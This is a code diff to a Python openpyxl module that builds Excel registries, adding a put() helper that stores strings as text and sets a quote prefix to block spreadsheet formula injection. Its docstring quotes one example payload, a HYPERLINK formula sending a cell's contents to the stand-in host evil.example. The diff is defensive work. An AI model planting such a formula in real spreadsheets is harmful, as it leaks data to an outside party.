@@ -6,6 +6,19 @@ number), days as real date cells shown dd/mm/yyyy (a moment first put in the cit
 the pages show it; Excel has no time zones), never as text that merely looks like one. The
 header row is bold and frozen, and each column is as wide as its longest value (within bounds),
 so the sheet reads without resizing anything.
+
+Text stays text. openpyxl stores any string starting with ``=`` as a formula, so a talent named
+``=HYPERLINK("http://evil.example/?"&B3,"x")`` would become a live formula in the registry;
+every cell this package writes goes through :func:`put`, which stores a string as a string cell
+(``data_type`` ``s``) whatever it starts with. A string starting with what a spreadsheet reads
+as the start of a formula (``=``, ``+``, ``-``, ``@``) or with a tab or carriage return also gets
+Excel's quote prefix (the apostrophe shown in the formula bar, ``quotePrefix``): the cell shows
+the text as written and stays text when someone edits it and presses Enter. The value itself is
+never changed — a name, a decision number or a "-" placeholder reads back exactly as stored, and
+a template's locked cells compare equal when the sheet comes back. The quote prefix is a cell
+style, so it does not travel into a CSV someone saves from the workbook: whoever feeds such a
+CSV to another program must treat its cells as data (prefixing the values themselves with an
+apostrophe would change every such name in the registers).
 """
 from __future__ import annotations
 
@@ -16,6 +29,7 @@ from typing import Any, Sequence
 
 from openpyxl import Workbook
 from openpyxl.styles import Alignment, Font, PatternFill
+from openpyxl.cell.cell import Cell
 from openpyxl.utils import get_column_letter
 from openpyxl.worksheet.worksheet import Worksheet
 
@@ -28,6 +42,8 @@ MIN_WIDTH, MAX_WIDTH = 8, 60
 HEADER_FILL = PatternFill("solid", fgColor="DDE4EE")
 #: Excel refuses these in a sheet's name.
 _BAD_TITLE = set('[]:*?/\\')
+#: How a formula starts in Excel, LibreOffice or Google Sheets (and the tab and CR some strip first).
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 
 @dataclass(frozen=True)
@@ -53,6 +69,17 @@ class Sheet:
     title: str
     columns: tuple[Column, ...]
     rows: Sequence[Sequence[Any]]
+
+
+def put(ws: Worksheet, row: int, column: int, value: Any) -> Cell:
+    """Write ``value`` into a cell, a string always as text, never as a formula (see the module)."""
+    cell: Cell = ws.cell(row=row, column=column)
+    cell.value = value
+    if isinstance(value, str):
+        cell.data_type = "s"
+        if value.startswith(FORMULA_START):
+            cell.quotePrefix = True
+    return cell
 
 
 def sheet_title(title: str) -> str:
@@ -95,7 +122,7 @@ def _shown_width(value: Any, fmt: str | None) -> int:
 def write_header(ws: Worksheet, headers: Sequence[str]) -> None:
     """The bold, shaded, frozen header row."""
     for index, header in enumerate(headers, start=1):
-        cell = ws.cell(row=1, column=index, value=header)
+        cell = put(ws, 1, index, header)
         cell.font = Font(bold=True)
         cell.fill = HEADER_FILL
         cell.alignment = Alignment(vertical="center", wrap_text=True)
@@ -115,7 +142,7 @@ def fill(ws: Worksheet, sheet: Sheet) -> None:
     for r, row in enumerate(sheet.rows, start=2):
         for c, (column, value) in enumerate(zip(sheet.columns, row), start=1):
             shown, fmt = cell_value(value, column.kind)
-            cell = ws.cell(row=r, column=c, value=shown)
+            cell = put(ws, r, c, shown)
             if fmt and fmt != "@":
                 cell.number_format = fmt
             widths[c - 1] = max(widths[c - 1], _shown_width(shown, fmt))
